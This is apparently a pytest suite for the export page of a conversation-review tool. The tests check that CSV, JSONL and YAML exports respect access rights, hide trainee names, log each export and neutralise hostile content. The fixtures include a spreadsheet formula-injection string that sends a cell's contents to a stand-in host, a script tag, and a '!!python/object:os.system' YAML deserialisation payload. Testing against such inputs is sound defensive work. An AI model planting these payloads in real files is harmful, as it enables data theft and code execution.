"""Exports: each kind of file opens in what it is for, with what may be read, and is noted."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select, update

from bot.evaluation.corpus import read_file
from bot.review import exporting
from bot.review.cells import plain
from bot.review.exporting import KINDS
from bot.review.pages import exports
from bot.store.desk.filters import Filters
from bot.store.desk.taken import TakenMessage
from bot.store.desk_tables import AuditRow, CommentRow, Reading, SignOff, Verdict
from bot.store.tables import ObjectionRow, OfferRow, Trainee, TurnRow, now
from tests.review.people import Office

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"read me")'
HOSTILE = f'{FORMULA}\n;=1, "quoted" <script>alert(1)</script> 💛 ${{HOME}} \\u0041 [you](rule) '


@pytest.fixture
def client(app, office: Office) -> FlaskClient:
    return office.signed_in(app, "lead")


def text_of(client: FlaskClient, kind: str, **form: str) -> str:
    answer = client.post("/exports", data={"kind": kind, **form})
    assert answer.status_code == 200, answer.status
    return answer.data.decode("utf-8")


def rows_of(client: FlaskClient, kind: str, **form: str) -> list[dict[str, str]]:
    text = text_of(client, kind, **form)
    assert text.startswith("\ufeff")
    made = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    return [{k: plain(v) for k, v in row.items()} for row in made]


def log(office: Office) -> list[tuple[int | None, str]]:
    with office.store._session() as s:
        found = s.execute(
            select(AuditRow.reviewer_id, AuditRow.about).where(AuditRow.did == "export")
        )
        return [(who, about) for who, about in found]


@pytest.fixture
def talks(office: Office) -> dict[str, Any]:
    """Two conversations of North, one of South; a little is said to the first."""
    one = office.talk("ada", (HOSTILE, "P4", "G1"), ("What now?", "M1"))
    two = office.talk("ben", ("Rest.", "P1"))
    south = office.talk("cleo", ("Only South reads this.", "P9"))
    turn = one.turns[0].id
    with office.store._session() as s:
        first = s.get_one(TurnRow, turn).findings[0].id
        north, lead = office.reviewers["north"], office.reviewers["lead"]
        missed = {"kind": "missed", "code": "M2", "start": 0, "end": 3, "quote": "=HY"}
        s.add_all(
            [
                Verdict(turn_id=turn, finding_id=first, reviewer_id=north, kind="overrule"),
                Verdict(turn_id=turn, reviewer_id=lead, **missed),
                ObjectionRow(turn_id=turn, code="P4", reason="She asked."),
                OfferRow(turn_id=turn, text="What would help?", codes=["M1"]),
                CommentRow(
                    encounter_id=one.id,
                    turn_id=turn,
                    reviewer_id=north,
                    to_trainee=True,
                    text="Well heard.",
                ),
                SignOff(encounter_id=two.id, reviewer_id=north, rubric={"empathy": 4}),
            ]
        )
        s.execute(
            update(Trainee).where(Trainee.id == office.trainees["ada"].id).values(name="=Ada")
        )
    return {"one": one, "two": two, "south": south}


# -- tables ----------------------------------------------------------------------------------


def test_a_row_a_reply(client, office, talks):
    first, second, third, fourth = rows_of(client, "messages.csv")
    assert first["reply"] == HOSTILE
    assert first["trainee"] == office.trainees["ada"].id
    assert "name" not in first
    assert (first["group"], first["scene"]) == ("North", "After a bad date")
    assert (first["flags shown"], first["moves shown"]) == ("P4", "G1")
    assert (first["overruled"], first["missed"]) == ("P4 (none)", "M2")
    assert first["seen otherwise by trainee"] == "P4"
    assert (second["reply"], second["conversation"]) == ("What now?", first["conversation"])
    assert (third["reply"], fourth["group"]) == ("Rest.", "South")


def test_times_are_those_of_the_organisation(client, office, talks):
    with office.store._session() as s:
        s.execute(update(TurnRow).values(created_at=datetime(2026, 3, 2, 23, 30, tzinfo=UTC)))
    assert rows_of(client, "messages.csv")[0]["written"] == "2026-03-03 00:30:00"


def test_no_cell_is_a_formula_and_lines_end_as_they_do_in_csv(client, talks):
    text = text_of(client, "messages.csv")
    assert FORMULA not in plain_quotes(text).replace(f"'{FORMULA}", "")
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
        assert not any(c.lstrip(" '\"\t\r\n")[:1] in ("=", "@") and c[0] != "'" for c in row)
    assert text.count("\r\n") == len(list(csv.reader(io.StringIO(text, newline=""))))


def plain_quotes(text: str) -> str:
    return text.replace('""', '"')


def test_a_row_a_conversation(client, office, talks):
    one, two, _ = rows_of(client, "conversations.csv")
    assert (one["replies"], one["pitfalls shown"], one["moves shown"]) == ("2", "1", "2")
    assert one["flags seen otherwise by trainee"] == "1"
    assert (one["signed off"], one["rubric"]) == ("", "")
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", two["signed off"])
    assert two["rubric"] == "empathy 4"
    assert (two["trust at first"], two["trust at last"]) == ("0.3", "0.31")


def test_what_was_taken_back_counts_for_nothing_but_has_its_row(client, office, talks):
    last = talks["one"].turns[1].id
    with office.store._session() as s:
        s.execute(update(TurnRow).where(TurnRow.id == last).values(taken_back_at=now()))
    assert rows_of(client, "messages.csv")[1]["taken back"] == "yes"
    one, *_ = rows_of(client, "conversations.csv")
    assert (one["replies"], one["moves shown"]) == ("1", "1")


def test_a_conversation_without_replies_has_a_row(client, office):
    office.encounter("dan")
    (row,) = rows_of(client, "conversations.csv")
    assert (row["replies"], row["trust at first"], row["group"]) == ("0", "", "")


# -- for programs ----------------------------------------------------------------------------


def test_json_lines_hold_everything(client, office, talks):
    first, *rest = [json.loads(x) for x in text_of(client, "messages.jsonl").splitlines()]
    assert len(rest) == 3
    assert first["reply"] == HOSTILE
    assert "name" not in first
    assert [f["code"] for f in first["findings"]] == ["P4", "G1"]
    assert first["findings"][0]["verdicts"][0]["kind"] == "overrule"
    assert first["findings"][0]["verdicts"][0]["instead"] is None
    assert first["missed"][0]["quote"] == "=HY"
    assert first["objections"] == [{"code": "P4", "reason": "She asked.", "outcome": ""}]
    assert first["comments"][0]["text"] == "Well heard."
    assert first["offers"] == ["What would help?"]
    assert datetime.fromisoformat(first["at"]).tzinfo == UTC


def test_what_is_coded_blind_stays_hidden_until_it_is_done(client, office, talks):
    turn, north = talks["south"].turns[0].id, office.reviewers["south"]
    with office.store._session() as s:
        row = Verdict(turn_id=turn, reviewer_id=north, kind="missed", code="G3", blind=True)
        reading = Reading(encounter_id=talks["south"].id, reviewer_id=north, blind=True)
        nothing = Verdict(turn_id=turn, reviewer_id=north, kind="missed", code="N", blind=True)
        s.add_all([row, nothing, reading])
    assert rows_of(client, "messages.csv")[3]["missed"] == ""
    with office.store._session() as s:
        s.execute(update(Reading).values(done_at=now()))
    assert rows_of(client, "messages.csv")[3]["missed"] == "G3"


def test_whoever_is_to_code_blind_gets_no_codes(app, office, talks):
    with office.store._session() as s:
        south = office.reviewers["south"]
        s.add(Reading(encounter_id=talks["south"].id, reviewer_id=south, blind=True))
    answer = office.signed_in(app, "south").post("/exports", data={"kind": "messages.csv"})
    assert answer.status_code == 303


def test_training_examples_by_topic(client, talks):
    made = yaml.safe_load(text_of(client, "nlu.yml"))
    assert made["version"] == "3.1"
    (block,) = made["nlu"]
    assert block["intent"] == "safety"
    examples = block["examples"].splitlines()
    assert examples[1:] == ["- What now?", "- Rest.", "- Only South reads this."]
    assert examples[0] == "- " + " ".join(HOSTILE.split()).replace("](", "] (")


def message(reply: str, topic: str = "safety", sure: float = 0.5) -> TakenMessage:
    return TakenMessage(
        "c", "t-a", "", "s", "each", False, 1, 1, False, datetime(2026, 1, 1, tzinfo=UTC),
        "", reply, "", "", topic, sure, 0.3, "open", "", (), (), (), (), (),
    )  # fmt: skip


def test_replies_that_were_not_understood_are_no_examples():
    batch = [message("x", sure=0.0), message(" \n"), message("x", "a: b"), message("y", "faq/a")]
    assert yaml.safe_load("".join(exporting.nlu_yml([batch])))["nlu"] == []


def test_rasa_reads_the_examples_as_they_were_said():
    reader = pytest.importorskip("rasa.shared.nlu.training_data.formats.rasa_yaml")
    said = [
        "[you](rule) and [a]{b} and [c][{}]", "- twice", "# no comment", "${HOME} $PATH",
        "\\u0041", "| x", "'",
        '"a: b"', "!!python/object:os.system", "\x85a\u2028b\x0bc\x00d\ufeff", "💛", "%",
    ]  # fmt: skip
    text = "".join(exporting.nlu_yml([[message(t) for t in said]]))
    found = reader.RasaYAMLReader().reads(text).training_examples
    assert [e.get("text") for e in found] == [
        "[you] (rule) and [a] {b} and [c] [{}]", *said[1:9], "a b cd", *said[10:],
    ]  # fmt: skip
    assert {e.get("intent") for e in found} == {"safety"}
    assert not any(e.get("entities") for e in found)


def test_rasa_takes_no_backslash_for_a_sign_of_its_own():
    reader = pytest.importorskip("rasa.shared.nlu.training_data.formats.rasa_yaml")
    text = "".join(exporting.nlu_yml([[message("\\u0041 \\ud83d")]]))
    (found,) = reader.RasaYAMLReader().reads(text).training_examples
    assert found.get("text") == "\\u0041 \\ud83d"


@given(st.lists(st.text(max_size=30), min_size=1, max_size=6))
def test_any_text_is_one_line_of_safe_yaml(texts):
    made = yaml.safe_load("".join(exporting.nlu_yml([[message(t) for t in texts]])))
    some = made["nlu"][0]["examples"].splitlines() if made["nlu"] else []
    assert len(some) <= len(texts)
    assert all(x.startswith("- ") for x in some)


def test_corrections_as_lines_of_a_corpus(client, talks, tmp_path: Path):
    path = tmp_path / "corpus.jsonl"
    path.write_text(text_of(client, "corpus.jsonl"), encoding="utf-8")
    one, two = read_file(path)
    assert one.reply == HOSTILE
    assert one.codes == (("M2", "=HY"), ("G1", HOSTILE))
    assert (two.voice, two.reply, two.codes) == ("organisation", "Rest.", (("P1", "Rest."),))


# -- who gets what ---------------------------------------------------------------------------


@pytest.mark.parametrize("kind", [k for k in KINDS if k != "corpus.jsonl"])
@pytest.mark.parametrize("who", ["lead", "north", "south"])
def test_only_what_may_be_read_is_in_a_file(app, office, talks, who, kind):
    office.change(talks["two"].id, open_to_all=False)
    text = text_of(office.signed_in(app, who), kind)
    ids = {"lead": {"one", "south"}, "north": {"one"}, "south": {"south"}}[who]
    mark = {"one": "What now?", "two": "Rest.", "south": "Only South"}
    if kind == "conversations.csv":
        mark = {name: talks[name].id for name in mark}
    assert {name for name, words in mark.items() if words in text} == ids


def test_readers_export_nothing(app, office, talks):
    client = office.signed_in(app, "reader")
    assert client.get("/exports").status_code == 403
    assert client.post("/exports", data={"kind": "messages.csv"}).status_code == 403
    assert app.test_client().post("/exports", data={"kind": "messages.csv"}).status_code == 302
    assert log(office) == []


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_what_trainees_call_themselves_is_in_no_file(client, office, talks, kind):
    """They were told that supervisors see a random name; also if somebody asks for more."""
    text = text_of(client, kind, names="1")
    assert "=Ada" not in text
    assert (office.trainees["ada"].id in text) == (kind not in ("nlu.yml", "corpus.jsonl"))


# -- the page --------------------------------------------------------------------------------


def test_filters_hold_for_the_file_and_the_counts(client, office, talks):
    page = client.get("/exports?code=P4").text
    assert "1 conversation, 1 reply" in page
    assert [r["reply"] for r in rows_of(client, "messages.csv", code="P4")] == [HOSTILE]
    (row,) = rows_of(client, "conversations.csv", code="P4")
    assert row["replies"] == "2"
    assert '<input type="hidden" name="code" value="P4">' in page


def test_counting_ends_somewhere(client, talks, monkeypatch):
    monkeypatch.setattr(exports, "COUNTED", 2)
    page = client.get("/exports").text
    assert "more than 2 conversations, more than 2 replies." in page
    assert "1 conversation, 1 reply." in client.get("/exports?code=P4").text


def test_counts_are_of_what_may_be_read(app, office, talks):
    office.change(talks["two"].id, open_to_all=False)
    assert "1 conversation, 2 replies" in office.signed_in(app, "north").get("/exports").text
    assert "2 conversations, 3 replies" in office.signed_in(app, "lead").get("/exports").text


def test_an_export_is_noted_without_the_words_searched_for(client, office, talks):
    text_of(client, "messages.csv", q="now", code="M1")
    lead = office.reviewers["lead"]
    assert log(office) == [(lead, "messages.csv, 1 rows, code M1, words")]


def test_searching_is_noted_without_its_words(client, office, talks):
    client.get("/exports?q=now")
    with office.store._session() as s:
        (deed,) = s.scalars(select(AuditRow))
    assert (deed.did, deed.about) == ("search", "exports")


def test_the_page_shows_a_lead_everybodys_exports_and_others_their_own(app, office, talks):
    text_of(office.signed_in(app, "north"), "messages.csv", code="M1")
    lead = office.signed_in(app, "lead").get("/exports").text
    assert "1 row, code M1" in lead
    assert "North, <time" in lead
    assert "code M1" not in office.signed_in(app, "south").get("/exports").text


def test_with_nothing_to_export_there_is_a_kind_word_and_no_line_in_the_log(client, office):
    answer = client.post("/exports", data={"kind": "messages.csv", "code": "P4"})
    assert answer.status_code == 303
    assert answer.location.endswith("/exports?code=P4")
    assert "there is no file" in client.get("/exports").text
    assert log(office) == []


def test_an_unknown_kind_is_asked_for_again(client, office, talks):
    answer = client.post("/exports", data={"kind": "everything.exe", "code": "P4"})
    assert answer.status_code == 422
    assert "Choose a kind of file." in answer.text
    assert log(office) == []


@pytest.mark.parametrize("kind", KINDS)
def test_files_are_to_be_saved_under_a_name_with_the_day(client, office, talks, kind):
    answer = client.post("/exports", data={"kind": kind})
    stem, _, ending = kind.partition(".")
    name = rf'attachment; filename="{stem}-\d{{4}}-\d\d-\d\d\.{ending}"'
    assert re.fullmatch(name, answer.headers["Content-Disposition"])
    assert answer.headers["Cache-Control"] == "no-store"
    assert "html" not in answer.mimetype


def test_a_file_is_named_by_the_day():
    assert KINDS["nlu.yml"].file_name(date(2026, 3, 2)) == "nlu-2026-03-02.yml"


@pytest.mark.parametrize("about", ["nlu.yml, 12 rows", "nlu.yml, 12 rows, code P9, words"])
def test_what_is_noted_can_be_read(about):
    kind, rows, filters = exporting.read_note(about)
    assert (kind, rows) == (KINDS["nlu.yml"].title, 12)
    assert filters in ("", "code P9, words")
    assert exporting.read_note("something else") == ("something else", 0, "")


# -- many ------------------------------------------------------------------------------------


def test_files_are_made_in_batches_in_the_order_of_conversations(office):
    for n in range(5):
        office.talk("ada", (f"first {n}",), (f"second {n}",))
    shelf = office.shelf
    viewer = shelf.viewer(shelf.sign_in(office.reviewers["lead"]))
    assert viewer
    ids = shelf.messages_to_take(viewer, Filters())
    batches = list(shelf.take_messages(viewer, ids, batch=3))
    assert [len(b) for b in batches] == [3, 3, 3, 1]
    assert [m.reply for b in batches for m in b] == [
        f"{which} {n}" for n in range(5) for which in ("first", "second")
    ]


def test_what_is_no_longer_shared_does_not_come_along(office):
    made = [office.talk("ada", (f"reply {n}",)) for n in range(3)]
    shelf = office.shelf
    viewer = shelf.viewer(shelf.sign_in(office.reviewers["lead"]))
    assert viewer
    messages = shelf.take_messages(viewer, shelf.messages_to_take(viewer, Filters()), batch=1)
    talks = shelf.conversations_to_take(viewer, Filters())
    conversations = shelf.take_conversations(viewer, talks, batch=1)
    assert next(messages)
    assert next(conversations)
    for one in made[1:]:
        office.change(one.id, open_to_all=False)
    assert [m for b in messages for m in b] == []
    assert [c for b in conversations for c in b] == []
